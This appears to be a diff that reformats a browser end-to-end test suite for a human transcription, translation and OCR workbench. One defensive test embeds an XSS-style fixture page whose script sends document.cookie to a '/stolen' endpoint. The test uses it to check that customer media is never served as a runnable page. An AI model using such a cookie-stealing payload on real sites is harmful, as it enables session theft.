@@ -22,7 +22,14 @@ import { scannedPage } from '../helpers/pages.js';
 
 const OCR_LINES = ['The committee met on Tuesday morning to review the budget for the coming year.', 'The chair promised a clear answer next month.'];
 
-const DRAFT_WORDS: Array<[string, number, number]> = [['Hello', 1, 1.4], ['from', 1.5, 1.8], ['the', 1.9, 2], ['machine.', 2.1, 2.6], ['Second', 12, 12.5], ['sentence.', 12.6, 13.2]];
+const DRAFT_WORDS: Array<[string, number, number]> = [
+  ['Hello', 1, 1.4],
+  ['from', 1.5, 1.8],
+  ['the', 1.9, 2],
+  ['machine.', 2.1, 2.6],
+  ['Second', 12, 12.5],
+  ['sentence.', 12.6, 13.2],
+];
 
 describeNeeding('chromium', 'the workbench in Chromium', () => {
   failOnPageProblems();
@@ -36,13 +43,28 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
   const tokens: Record<string, string> = {};
 
   beforeAll(async () => {
-    [media, receiver, engine, docs, browser] = await Promise.all([startMediaServer(), startCallbackReceiver(), startEngineServer(), startDocumentServer(), launchBrowser()]);
+    [media, receiver, engine, docs, browser] = await Promise.all([
+      startMediaServer(),
+      startCallbackReceiver(),
+      startEngineServer(),
+      startDocumentServer(),
+      launchBrowser(),
+    ]);
     engine.behaviour = { kind: 'transcript', body: verboseJson(DRAFT_WORDS) };
     service = await startService({
-      engines: { speech: openAiCompatibleEngine({ baseUrl: engine.url, model: 'whisper-test' }), translators: await translatorsFrom({}) }, rateLimits: { signInPerMinute: 10_000 },
+      engines: { speech: openAiCompatibleEngine({ baseUrl: engine.url, model: 'whisper-test' }), translators: await translatorsFrom({}) },
+      rateLimits: { signInPerMinute: 10_000 },
     });
-    for (const [name, skills] of [['Ann', 'transcription:english'], ['Rita', 'review:english'], ['Fran', 'transcription:french'], ['Gus', 'transcription:german'],
-      ['Tom', 'translation:english>french'], ['Olga', 'ocr:english'], ['Hana', 'transcription:english'], ['Dora', 'transcription:english,translation:english>spanish,ocr:english']] as const) {
+    for (const [name, skills] of [
+      ['Ann', 'transcription:english'],
+      ['Rita', 'review:english'],
+      ['Fran', 'transcription:french'],
+      ['Gus', 'transcription:german'],
+      ['Tom', 'translation:english>french'],
+      ['Olga', 'ocr:english'],
+      ['Hana', 'transcription:english'],
+      ['Dora', 'transcription:english,translation:english>spanish,ocr:english'],
+    ] as const) {
       const created = await service.ops('POST', '/ops/workers', { name, skills });
       expect(created.status, JSON.stringify(created.body)).toBe(200);
       tokens[name] = created.body.sign_in_token;
@@ -88,10 +110,14 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     expect(await page.locator('#player').evaluate((a: HTMLAudioElement) => a.playbackRate)).toBe(1.25);
   }
 
-  it('a worker claims, hears, edits, reloads, submits; a reviewer sends it back, then approves; the customer gets the worker\'s words', async () => {
+  it("a worker claims, hears, edits, reloads, submits; a reviewer sends it back, then approves; the customer gets the worker's words", async () => {
     const account = await service.createAccount(20);
     const placed = await service.post('/api/v4/transcriptions', {
-      api_token: account.token, mode: 'live', url: media.audio(40), language: 'english', callback_url: receiver.url,
+      api_token: account.token,
+      mode: 'live',
+      url: media.audio(40),
+      language: 'english',
+      callback_url: receiver.url,
     });
     expect(placed.status, JSON.stringify(placed.body)).toBe(200);
     const orderId = placed.body.order_id as number;
@@ -127,18 +153,18 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     await screenshot(ann, 'workbench-editor');
 
     // An edit is saved on the server by itself and survives a reload.
-    await textBox(ann).fill('[00:00:01] Hello, here are the worker\'s own words.');
-    await expect.poll(async () => (await getTask(service.database.db, workTaskId))!.draft, { timeout: 10_000 }).toContain('worker\'s own words');
+    await textBox(ann).fill("[00:00:01] Hello, here are the worker's own words.");
+    await expect.poll(async () => (await getTask(service.database.db, workTaskId))!.draft, { timeout: 10_000 }).toContain("worker's own words");
     // The database has it before the page reads the answer: the status follows a moment later.
     await expect.poll(() => ann.locator('#save-status').textContent()).toContain('Saved at');
     await ann.reload();
-    expect(await textBox(ann).inputValue()).toBe('[00:00:01] Hello, here are the worker\'s own words.');
+    expect(await textBox(ann).inputValue()).toBe("[00:00:01] Hello, here are the worker's own words.");
 
     // Submit names what the order asked for and is missing (speaker labels), then takes the fix.
     await ann.getByRole('button', { name: 'Submit' }).click();
     await expect.poll(() => ann.getByRole('alert').first().textContent()).toContain('Speaker labels are missing');
     await axeCheck(ann);
-    await textBox(ann).fill('[00:00:01] Speaker 1: Hello, here are the worker\'s own wrods.');
+    await textBox(ann).fill("[00:00:01] Speaker 1: Hello, here are the worker's own wrods.");
     await ann.getByRole('button', { name: 'Submit' }).click();
     await ann.waitForURL('**/work/queue');
 
@@ -161,7 +187,7 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     await expect.poll(async () => (await ann.reload(), await fixLink.count()), { timeout: 15_000 }).toBe(1);
     await fixLink.click();
     await expect.poll(() => ann.getByRole('alert').first().textContent()).toContain('Spelling: "wrods"');
-    await textBox(ann).fill('[00:00:01] Speaker 1: Hello, here are the worker\'s own words.');
+    await textBox(ann).fill("[00:00:01] Speaker 1: Hello, here are the worker's own words.");
     await ann.getByRole('button', { name: 'Submit' }).click();
     await ann.waitForURL('**/work/queue');
 
@@ -175,12 +201,14 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     const callback = await waitFor(() => receiver.received.find((c) => c.fields.order_id === String(orderId)), 'the callback', 30_000);
     expect(callback.fields.transcription_url).toContain(`/api/v4/orders/${orderId}/files/transcription`);
     const transcript = await fetch(`${callback.fields.transcription_url}&format=text`).then((r) => r.text());
-    expect(transcript).toContain('Hello, here are the worker\'s own words.');
+    expect(transcript).toContain("Hello, here are the worker's own words.");
     // What the draft saved, on the order and in the metrics: the worker rewrote most of the engine's words.
     const rate = (await service.ops('GET', `/ops/orders/${orderId}`)).body.draft_edit_rate as number;
     expect(rate).toBeGreaterThan(0.5);
     expect(rate).toBeLessThan(2);
-    expect(await (await fetch(`${service.baseUrl}/metrics`)).text()).toMatch(/^workbench_draft_edit_rate_count\{product="transcription",language="english"\} [1-9]/m);
+    expect(await (await fetch(`${service.baseUrl}/metrics`)).text()).toMatch(
+      /^workbench_draft_edit_rate_count\{product="transcription",language="english"\} [1-9]/m,
+    );
 
     // Paid on approval.
     await ann.goto('/work/earnings');
@@ -192,11 +220,19 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
   it('translation shows the source beside the target; OCR shows the page, with zoom', async () => {
     const account = await service.createAccount(50);
     const translation = await service.post('/api/v4/translations', {
-      api_token: account.token, mode: 'live', url: docs.serve('/letter.txt', 'Dear customer,\n\nyour order is ready.', 'text/plain'),
-      translate_from: 'english', translate_to: 'french',
+      api_token: account.token,
+      mode: 'live',
+      url: docs.serve('/letter.txt', 'Dear customer,\n\nyour order is ready.', 'text/plain'),
+      translate_from: 'english',
+      translate_to: 'french',
     });
     expect(translation.status, JSON.stringify(translation.body)).toBe(200);
-    const ocr = await service.post('/api/v4/human-ocr', { api_token: account.token, mode: 'live', url: docs.serve('/page.png', pngImage(300, 200), 'image/png'), language: 'english' });
+    const ocr = await service.post('/api/v4/human-ocr', {
+      api_token: account.token,
+      mode: 'live',
+      url: docs.serve('/page.png', pngImage(300, 200), 'image/png'),
+      language: 'english',
+    });
     expect(ocr.status, JSON.stringify(ocr.body)).toBe(200);
     for (const id of [translation.body.order_id, ocr.body.order_id]) await waitFor(async () => (await tasksOfOrder(service.database.db, id))[0], 'the task');
 
@@ -209,10 +245,14 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     await screenshot(tom, 'workbench-translation');
     // Speech to translate: the translator hears it in the player.
     const spoken = await service.post('/api/v4/translations', {
-      api_token: account.token, mode: 'live', url: media.audio(30), translate_from: 'english', translate_to: 'french',
+      api_token: account.token,
+      mode: 'live',
+      url: media.audio(30),
+      translate_from: 'english',
+      translate_to: 'french',
     });
     expect(spoken.status, JSON.stringify(spoken.body)).toBe(200);
-    await waitFor(async () => (await tasksOfOrder(service.database.db, spoken.body.order_id))[0], 'the spoken translation\'s task');
+    await waitFor(async () => (await tasksOfOrder(service.database.db, spoken.body.order_id))[0], "the spoken translation's task");
     await tom.goto(`/work/tasks/task-${spoken.body.order_id}-work`);
     await tom.getByRole('button', { name: 'Claim' }).click();
     await tom.waitForURL(`**/work/tasks/task-${spoken.body.order_id}-work`);
@@ -231,7 +271,12 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     await screenshot(olga, 'workbench-ocr');
 
     // A scanned PDF: each of its pages drawn (in the sandbox) beside the text.
-    const scanned = await service.post('/api/v4/human-ocr', { api_token: account.token, mode: 'live', url: docs.serve('/scan.pdf', await blankPdf(2), 'application/pdf'), language: 'english' });
+    const scanned = await service.post('/api/v4/human-ocr', {
+      api_token: account.token,
+      mode: 'live',
+      url: docs.serve('/scan.pdf', await blankPdf(2), 'application/pdf'),
+      language: 'english',
+    });
     expect(scanned.status, JSON.stringify(scanned.body)).toBe(200);
     await waitFor(async () => (await tasksOfOrder(service.database.db, scanned.body.order_id))[0], 'the PDF task');
     await olga.goto('/work/queue');
@@ -246,9 +291,10 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     await axeCheck(olga);
   });
 
-  it('a customer\'s media is only ever the audio its bytes are: a page with a WAV head plays as audio, one that turns into a page is never served, and opened directly neither runs a script', async () => {
+  it("a customer's media is only ever the audio its bytes are: a page with a WAV head plays as audio, one that turns into a page is never served, and opened directly neither runs a script", async () => {
     const account = await service.createAccount(20);
-    const page = '<!doctype html><html><head><title>customer page</title></head><body><h1>Not audio</h1>' +
+    const page =
+      '<!doctype html><html><head><title>customer page</title></head><body><h1>Not audio</h1>' +
       `<script>document.title = 'pwned'; fetch('${media.url}/stolen?' + document.cookie, { mode: 'no-cors' });</script></body></html>`;
     const place = async (url: string) => {
       const placed = await service.post('/api/v4/transcriptions', { api_token: account.token, mode: 'live', url, language: 'english' });
@@ -263,7 +309,9 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     const turncoatServer = createServer((req, res) => {
       const wav = wavFile(20);
       if (!req.headers.range) return void res.writeHead(200, { 'content-type': 'text/html' }).end(page);
-      res.writeHead(206, { 'content-type': 'audio/wav', 'content-range': `bytes 0-${Math.min(wav.length, 65_536) - 1}/${wav.length}` }).end(wav.subarray(0, 65_536));
+      res
+        .writeHead(206, { 'content-type': 'audio/wav', 'content-range': `bytes 0-${Math.min(wav.length, 65_536) - 1}/${wav.length}` })
+        .end(wav.subarray(0, 65_536));
     });
     const turncoat = await place(`${await listen(turncoatServer)}/turncoat.wav`);
 
@@ -286,7 +334,10 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     expect((await service.ops('GET', `/ops/orders/${turncoat}`)).body.input_files?.media).toBeUndefined();
 
     // Opened on their own, neither is a page of the service: no customer markup, no script.
-    for (const [orderId, status] of [[polyglot, 200], [turncoat, 415]] as const) {
+    for (const [orderId, status] of [
+      [polyglot, 200],
+      [turncoat, 415],
+    ] as const) {
       const opened = await hana.goto(mediaOf(orderId));
       expect(opened!.status()).toBe(status);
       expect(await hana.title()).not.toBe('pwned');
@@ -297,7 +348,7 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     await close(turncoatServer);
   });
 
-  it('an error page of the workbench is the workbench\'s, and names the field instead of a validator\'s output', async () => {
+  it("an error page of the workbench is the workbench's, and names the field instead of a validator's output", async () => {
     const fran = await signIn('Fran');
     const missing = await fran.goto('/work/no-such-page');
     expect(missing!.status()).toBe(404);
@@ -320,7 +371,11 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     const account = await service.createAccount(50);
     const place = async (path: string, seconds: number, turnaround: string) => {
       const placed = await service.post(`/api/v4/${path}`, {
-        api_token: account.token, mode: 'live', url: media.audio(seconds), language: 'german', turnaround_time: turnaround,
+        api_token: account.token,
+        mode: 'live',
+        url: media.audio(seconds),
+        language: 'german',
+        turnaround_time: turnaround,
       });
       expect(placed.status, JSON.stringify(placed.body)).toBe(200);
       const orderId = placed.body.order_id as number;
@@ -355,44 +410,72 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     await expect.poll(() => textBox(gus).inputValue()).toContain('Hello from the machine.');
     await textBox(gus).fill('[00:00:01] Speaker 1: Typed a moment before the tab closed.');
     await gus.close({ runBeforeUnload: true });
-    await expect.poll(async () => (await getTask(service.database.db, `task-${sooner}-work`))!.draft, { timeout: 10_000 })
+    await expect
+      .poll(async () => (await getTask(service.database.db, `task-${sooner}-work`))!.draft, { timeout: 10_000 })
       .toBe('[00:00:01] Speaker 1: Typed a moment before the tab closed.');
   });
 
-  it.skipIf(!hasLeg('apertium'))('each product\'s editor opens with its machine draft: transcription, captions and proofreading, translation and subtitles (Apertium), OCR (tesseract.js) [needs Apertium]', async () => {
-    const account = await service.createAccount(100);
-    const place = async (path: string, fields: Record<string, unknown>) => {
-      const placed = await service.post(`/api/v4/${path}`, { api_token: account.token, mode: 'live', ...fields });
-      expect(placed.status, `${path}: ${JSON.stringify(placed.body)}`).toBe(200);
-      const orderId = placed.body.order_id as number;
-      await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0], `the ${path} task`, 60_000);
-      return orderId;
-    };
-    const spoken = { url: media.audio(20), language: 'english' };
-    const orders: Array<[string, number, RegExp, RegExp?]> = [
-      ['Transcript', await place('transcriptions', spoken), /Hello from the machine\./],
-      ['Transcript', await place('captions', spoken), /Hello from the machine\./],
-      // The supplied transcript passes the automatic check against the engine's words: it is the draft.
-      ['Transcript', await place('transcription-proofreadings', {
-        audio_url: spoken.url, language: 'english', transcription_url: docs.serve('/supplied.txt', 'Hello from the machine. Second sentence, supplied.', 'text/plain'),
-      }), /Second sentence, supplied\./],
-      ['Translation', await place('translations', {
-        url: docs.serve('/house.txt', 'The house is red.\n\nWe will meet tomorrow at the station.', 'text/plain'), translate_from: 'english', translate_to: 'spanish',
-      }), /casa es roja[\s\S]*mañana/i, /Machine translation draft \(english to spanish\) by apertium/],
-      // Subtitles: the engine's English words, machine-translated segment by segment, times kept.
-      ['Transcript', await place('subtitles', { url: media.audio(20), translate_from: 'english', translate_to: 'spanish' }), /^\[00:00:01\] .*máquina/im, /by apertium/],
-      ['Text', await place('human-ocr', { url: docs.serve('/letter.png', await scannedPage(OCR_LINES), 'image/png'), language: 'english' }), /committee met on Tuesday/, /OCR draft of 1 page \(confidence: page 1 \d+%\)/],
-    ];
-    const dora = await signIn('Dora');
-    for (const [label, orderId, draft, note] of orders) {
-      await dora.goto(`/work/tasks/task-${orderId}-work`);
-      await dora.getByRole('button', { name: 'Claim' }).click();
-      await dora.waitForURL(`**/work/tasks/task-${orderId}-work`);
-      const box = dora.getByLabel(label, { exact: true });
-      await expect.poll(() => box.inputValue(), { message: `order ${orderId}` }).toMatch(draft);
-      if (note) expect(await dora.locator('#engine-note').textContent()).toMatch(note);
-      await dora.getByRole('button', { name: 'Give the task back' }).click();
-    }
-    await axeCheck(dora);
-  }, 180_000);
+  it.skipIf(!hasLeg('apertium'))(
+    "each product's editor opens with its machine draft: transcription, captions and proofreading, translation and subtitles (Apertium), OCR (tesseract.js) [needs Apertium]",
+    async () => {
+      const account = await service.createAccount(100);
+      const place = async (path: string, fields: Record<string, unknown>) => {
+        const placed = await service.post(`/api/v4/${path}`, { api_token: account.token, mode: 'live', ...fields });
+        expect(placed.status, `${path}: ${JSON.stringify(placed.body)}`).toBe(200);
+        const orderId = placed.body.order_id as number;
+        await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0], `the ${path} task`, 60_000);
+        return orderId;
+      };
+      const spoken = { url: media.audio(20), language: 'english' };
+      const orders: Array<[string, number, RegExp, RegExp?]> = [
+        ['Transcript', await place('transcriptions', spoken), /Hello from the machine\./],
+        ['Transcript', await place('captions', spoken), /Hello from the machine\./],
+        // The supplied transcript passes the automatic check against the engine's words: it is the draft.
+        [
+          'Transcript',
+          await place('transcription-proofreadings', {
+            audio_url: spoken.url,
+            language: 'english',
+            transcription_url: docs.serve('/supplied.txt', 'Hello from the machine. Second sentence, supplied.', 'text/plain'),
+          }),
+          /Second sentence, supplied\./,
+        ],
+        [
+          'Translation',
+          await place('translations', {
+            url: docs.serve('/house.txt', 'The house is red.\n\nWe will meet tomorrow at the station.', 'text/plain'),
+            translate_from: 'english',
+            translate_to: 'spanish',
+          }),
+          /casa es roja[\s\S]*mañana/i,
+          /Machine translation draft \(english to spanish\) by apertium/,
+        ],
+        // Subtitles: the engine's English words, machine-translated segment by segment, times kept.
+        [
+          'Transcript',
+          await place('subtitles', { url: media.audio(20), translate_from: 'english', translate_to: 'spanish' }),
+          /^\[00:00:01\] .*máquina/im,
+          /by apertium/,
+        ],
+        [
+          'Text',
+          await place('human-ocr', { url: docs.serve('/letter.png', await scannedPage(OCR_LINES), 'image/png'), language: 'english' }),
+          /committee met on Tuesday/,
+          /OCR draft of 1 page \(confidence: page 1 \d+%\)/,
+        ],
+      ];
+      const dora = await signIn('Dora');
+      for (const [label, orderId, draft, note] of orders) {
+        await dora.goto(`/work/tasks/task-${orderId}-work`);
+        await dora.getByRole('button', { name: 'Claim' }).click();
+        await dora.waitForURL(`**/work/tasks/task-${orderId}-work`);
+        const box = dora.getByLabel(label, { exact: true });
+        await expect.poll(() => box.inputValue(), { message: `order ${orderId}` }).toMatch(draft);
+        if (note) expect(await dora.locator('#engine-note').textContent()).toMatch(note);
+        await dora.getByRole('button', { name: 'Give the task back' }).click();
+      }
+      await axeCheck(dora);
+    },
+    180_000,
+  );
 });
